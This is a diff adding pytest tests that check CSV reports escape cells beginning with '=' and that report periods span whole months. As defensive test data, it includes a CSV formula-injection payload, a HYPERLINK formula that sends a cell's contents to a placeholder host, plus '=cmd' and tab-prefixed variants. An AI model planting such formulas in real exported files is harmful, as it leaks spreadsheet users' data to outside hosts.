@@ -198,6 +198,27 @@ def test_a_csv_names_its_document_and_no_cell_is_a_formula(country: Country, tmp
     assert lines[5] == "2026-11,Narita,NO_FINDING,,'=cmd"
 
 
+def test_no_cell_of_a_report_is_a_formula(country: Country) -> None:
+    for number in range(10, 16):
+        country.inspected(number, (OWN,), ('=HYPERLINK("http://e.example/?"&A1)',))
+    told = report(country.central, ("finding",), MONTH, {}).as_csv().decode()
+    assert '"\'=HYPERLINK(""http://e.example/?""&A1)",x' in told.split("\r\n")
+    country.inspected(20, ("09521234000008",), ("\t=1",), outcome="NO_FINDING")
+    assert ",'\t=1\r\n" in prepare(country.central, compiled(PROFILES / "statistics.toml"), MONTH).data.decode()
+
+
+@pytest.mark.parametrize(("first", "last"), [((2026, 11, 1), (2026, 11, 29)), ((2026, 11, 2), (2026, 11, 30))])
+def test_a_report_is_of_whole_months_so_that_two_tell_nothing_of_the_days_between(
+    country: Country, first: tuple[int, int, int], last: tuple[int, int, int]
+) -> None:
+    period = Period(date(*first), date(*last))
+    with pytest.raises(RequestRefused) as caught:
+        report(country.central, ("port",), period, {})
+    assert caught.value.message == (
+        f"Expected the first day of a month and the last of one, got {period.first} and {period.last}."
+    )
+
+
 def test_what_is_previewed_is_what_leaves_and_it_is_logged_once(country: Country) -> None:
     wanted = compiled(PROFILES / "right-holder.toml")
     shown = prepare(country.central, wanted, MONTH)
